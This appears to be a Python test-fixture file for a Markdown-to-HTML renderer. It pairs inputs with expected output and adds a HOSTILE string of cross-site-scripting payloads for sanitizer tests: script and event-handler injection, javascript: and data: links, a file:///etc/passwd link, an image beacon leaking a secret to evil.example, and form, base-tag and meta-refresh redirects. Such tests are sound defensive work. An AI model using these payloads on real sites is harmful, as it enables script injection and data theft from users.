"""What models write on the server's page, and what none would."""

# Markdown, and the HTML that it becomes, without attributes.
MARKDOWN = {
    "a **b** *c* ~~d~~ `e` __f__ _g_": (
        "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code> <strong>f</strong> <em>g</em></p>"
    ),
    "***a***": "<p><strong><em>a</em></strong></p>",
    "**a *b* c**": "<p><strong>a <em>b</em> c</strong></p>",
    "*a **b** c*": "<p><em>a <strong>b</strong> c</em></p>",
    "2 * 3 * 4, snake_case_name, **not": "<p>2 * 3 * 4, snake_case_name, **not</p>",
    r"\*a\* `\*` \(x\)": r"<p>*a* <code>\*</code> \(x\)</p>",
    "``a ` b`` `` ` `` `c": "<p><code>a ` b</code> <code>`</code> `c</p>",
    "**a `**` b**": "<p><strong>a <code>**</code> b</strong></p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# A\n### B #\n####### C": "<h3>A</h3><h5>B</h5><p>####### C</p>",
    "a\n***\nb": "<p>a</p><hr><p>b</p>",
    "- a\n- b\n  - c\n\n- d": (
        "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li><li><p>d</p></li></ul>"
    ),
    "3. a\n4. b": '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>',
    "1. a\n   more\n\n   b\n2. c": "<ol><li><p>a<br>more</p><p>b</p></li><li><p>c</p></li></ol>",
    "- a\n  ```\n  x\n\n\n  y\n  ```\n- b": (
        "<ul><li><p>a</p><div><div><span></span><button>Copy</button></div><pre><code>x\n\n\ny</code></pre></div></li>"
        "<li><p>b</p></li></ul>"
    ),
    "> a\n> > b\n\nc": ("<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    "<https://a.example/x> (see https://b.example/y_(z)).": (
        "<p><a>https://a.example/x</a> (see <a>https://b.example/y_(z)</a>).</p>"
    ),
    '[a *b*](https://c.example "t") ![d](https://e.example/f.png)': "<p><a>a <em>b</em></a> <a>d</a></p>",
    "[https://a.example](https://b.example)": "<p><a>https://a.example</a></p>",
    "[a](/v1/models) [b](#c) [d]": "<p>[a](/v1/models) [b](#c) [d]</p>",
    "| a | `b|c` |\n|---|--:|\n| **d** | e\\|f |\n\ng": (
        "<div><table><thead><tr><th>a</th><th><code>b|c</code></th></tr></thead>"
        "<tbody><tr><td><strong>d</strong></td><td>e|f</td></tr></tbody></table></div><p>g</p>"
    ),
    "a | b\nc": "<p>a | b<br>c</p>",
    "<b>a</b> &lt;": "<p>&lt;b&gt;a&lt;/b&gt; &amp;lt;</p>",
}

HOSTILE = """<script>pwned()</script><img src=x onerror="pwned()"><svg onload=pwned()>
<a href="javascript:pwned()">a</a> <iframe srcdoc="<script>parent.pwned()</script>"></iframe>
[a](javascript:pwned()) [b](JaVaScRiPt:pwned()) [c](java\tscript:pwned()) <javascript:pwned()>
[d](data:text/html,<script>pwned()</script>) [e]( javascript:pwned()) [f](vbscript:x) [g](file:///etc/passwd)
[h](blob:http://x/y) ![i](javascript:pwned()) ![j](https://evil.example/leak.png?q=secret)
[k](https://a.example" onclick="pwned()) **<b onclick=pwned()>**
[l](https://a.example/'onmouseover='pwned()) [m](//evil.example) `<script>pwned()</script>`

# <img src=x onerror=pwned()>

- <img src=x onerror=pwned()>

> <style>*{display:none}</style>

| <img src=x onerror=pwned()> | b |
|---|---|
| <script>pwned()</script> | <base href=https://evil.example> |

```"><script>pwned()</script>
</code></pre><script>pwned()</script>
```
<form action=https://evil.example><button>Send</button></form>
<meta http-equiv=refresh content="0;url=https://evil.example">
"""

# Beginnings that never end, over and over: of marks within a line, and of blocks, which are thousands.
INLINE = ("*a ", "**a*b_", "_a ", "[", "[a](((", "`` ` ", "http://", "<http://")
BLOCKS = (
    *("[a](", "`", "> ", "- ", "  - a\n", "# ", "#", "| ", "|-", "\\", "~~", "![", "a\n", "a|b\n-|-\n", "\n"),
    *("1. ", "***", "```\n", "> - "),
)

# One of each thing that a page shows.
RICH = f"""A plan with **bold**, `code`, a [link](https://a.example) and a_very_long_word_{"x" * 200}

## Steps

1. Read
   - one
   - two

> A quotation

| format | bits | a long head of a column | another one |
|:---|---:|:-:|---|
| Q1_0 | 1.125 | a text that takes a lot of room | and more of it |

```python
def answer(model, text):  # a comment so long that this line must scroll, whatever the width of the window is
    return bj.generate(model, [text])[0].text
```
"""
